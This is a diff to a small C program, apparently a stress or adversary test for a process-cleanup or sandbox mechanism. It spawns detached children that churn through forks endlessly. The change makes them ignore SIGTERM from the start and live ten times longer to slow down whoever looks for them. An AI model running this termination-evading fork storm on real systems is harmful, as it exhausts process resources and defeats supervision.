@@ -16,12 +16,12 @@ int main(int argc, char **argv)
 {
     if (argc < 2 || chdir(argv[1]) < 0)
         nothing_to_attack("no workspace");
+    (void)signal(SIGTERM, SIG_IGN); /* the children's from their first moment on */
     for (int i = 0; i < 20; i++) {
         if (fork() != 0)
             continue;
         (void)setsid();
-        (void)signal(SIGTERM, SIG_IGN);
-        alarm(2);
+        alarm(20); /* they slow down whoever looks for them */
         for (;;)
             if (fork() == 0)
                 _exit(0);
@@ -29,6 +29,7 @@ int main(int argc, char **argv)
                 while (waitpid(-1, NULL, WNOHANG) > 0)
                     ;
     }
+    (void)signal(SIGTERM, SIG_DFL);
     (void)close(creat("beat", 0600));
     usleep(100 * 1000);
     return 0;
